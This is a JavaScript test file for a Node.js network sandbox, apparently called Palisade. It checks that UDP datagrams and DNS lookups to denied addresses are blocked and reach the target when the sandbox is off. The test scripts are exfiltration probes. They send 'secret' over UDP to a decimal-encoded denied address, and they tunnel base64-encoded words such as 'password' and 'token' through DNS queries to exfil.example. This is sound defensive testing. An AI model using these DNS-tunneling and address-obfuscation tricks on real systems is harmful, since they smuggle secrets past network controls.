import t from 'tap';
import { dnsStub } from '../helpers/dns-stub.js';
import { NET_POLICY, assertDenied, assertReached, attemptNet, udpTarget } from '../helpers/network-bypass.js';

const DNS_POLICY = { ...NET_POLICY, deny: { 'net.connect': ['127.0.0.2', '*.exfil.example'] } };
const settleCb = `const cb = (how, resolve) => (e) => { report(how, e ? e.code : 'OK'); resolve(); };`;

t.test('dgram send and connect to a denied address', async (t) => {
  const target = await udpTarget(t);
  const script = `import dgram from 'node:dgram';\n${settleCb}
const s = dgram.createSocket('udp4');
await new Promise((r) => s.send('secret', PORT, '127.0.0.2', cb('send', r)));
await new Promise((r) => s.send('secret', PORT, '2130706434', cb('send decimal', r)));
const c = dgram.createSocket('udp4');
await new Promise((r) => c.connect(PORT, '127.0.0.2', cb('connect', r)));
s.close(); c.close();`;
  const r = await attemptNet(t, { script, port: target.port });
  assertDenied(t, r, 3);
  await new Promise((r) => setTimeout(r, 50));
  t.equal(target.datagrams, 0, 'no datagram arrived');
});

t.test('dns.resolve of a denied domain through a Resolver pointed at a local DNS server', async (t) => {
  const stub = await dnsStub();
  t.teardown(() => stub.close());
  const script = `import dns from 'node:dns';\n${settleCb}
const server = '127.0.0.1:' + PORT;
const resolver = new dns.Resolver(); resolver.setServers([server]);
await new Promise((r) => resolver.resolveTxt('c2VjcmV0LWRhdGE.exfil.example', cb('Resolver#resolveTxt', r)));
dns.setServers([server]);
await new Promise((r) => dns.resolve4('cGFzc3dvcmQ.exfil.example', cb('dns.resolve4', r)));
await dns.promises.resolve('dG9rZW4.exfil.example', 'TXT').then(() => report('dns.promises.resolve', 'OK'), (e) => report('dns.promises.resolve', e.code));
const p = new dns.promises.Resolver(); p.setServers([server]);
await p.resolveAny('a2V5.EXFIL.example.').then(() => report('promises Resolver', 'OK'), (e) => report('promises Resolver', e.code));`;
  const r = await attemptNet(t, { policy: DNS_POLICY, script, port: stub.port });
  assertDenied(t, r, 4);
  t.same(stub.queries, [], 'the DNS server received no query');
});

t.test('pointing the resolver at a denied DNS server', async (t) => {
  const stub = await dnsStub('127.0.0.2');
  t.teardown(() => stub.close());
  const script = `import dns from 'node:dns';
try { dns.setServers(['127.0.0.2:' + PORT]); report('setServers', 'OK'); } catch (e) { report('setServers', e.code); }
await dns.promises.resolve4('innocent.example').then(() => report('query', 'OK'), (e) => report('query', e.code === 'ERR_PALISADE_DENIED' ? e.code : 'NOT_SENT_TO_STUB'));`;
  const r = await attemptNet(t, { policy: DNS_POLICY, script, port: stub.port });
  t.equal(r.code, 0, r.stderr);
  t.match(r.json[0], { how: 'setServers', code: 'ERR_PALISADE_DENIED' });
  t.same(stub.queries, [], 'the denied DNS server received no query');
});

t.test('control: without Palisade the datagrams and queries above arrive', async (t) => {
  const udp = await udpTarget(t);
  const udpRun = await attemptNet(t, {
    preload: 'none',
    port: udp.port,
    script: `import dgram from 'node:dgram';\n${settleCb}\nconst s = dgram.createSocket('udp4');\nawait new Promise((r) => s.send('x', PORT, '2130706434', cb('send', r)));\ns.close();`,
  });
  assertReached(t, udpRun, 1);
  const stub = await dnsStub();
  t.teardown(() => stub.close());
  const dnsRun = await attemptNet(t, {
    preload: 'none',
    port: stub.port,
    script: `import dns from 'node:dns';\n${settleCb}\nconst r1 = new dns.Resolver(); r1.setServers(['127.0.0.1:' + PORT]);\nawait new Promise((r) => r1.resolveTxt('c2VjcmV0.exfil.example', cb('txt', r)));`,
  });
  t.equal(dnsRun.code, 0);
  await new Promise((r) => setTimeout(r, 50));
  t.equal(udp.datagrams, 1, 'the datagram arrived');
  t.same(stub.queries, ['c2vjcmv0.exfil.example'], 'the query arrived');
});
